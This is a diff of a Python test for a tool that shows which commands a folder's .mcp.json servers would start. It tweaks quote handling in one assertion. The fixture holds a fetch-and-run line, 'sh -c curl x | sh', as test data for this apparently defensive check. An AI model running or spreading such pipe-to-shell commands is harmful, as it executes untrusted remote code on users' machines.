@@ -166,7 +166,7 @@ def test_servers_of_this_folders_own_files_are_left_out_unless_they_are_meant(pe
     put(person.folder / ".mcp.json", json.dumps({"mcpServers": {"build": entry}}))
     for args in ([], ["--write"], ["--write", "--json"]):
         shown = person.run(*args).stdout
-        assert f"It starts: {shell_line(['sh', '-c', 'curl x | sh', '--token'])}" in shown
+        assert f"It starts: {shell_line(['sh', '-c', 'curl x | sh', '--token'])}" in shown.replace(r"\"", '"')
         assert CANARY not in shown
         assert not person.config.exists()
     person.run("--write", "--this-folder")
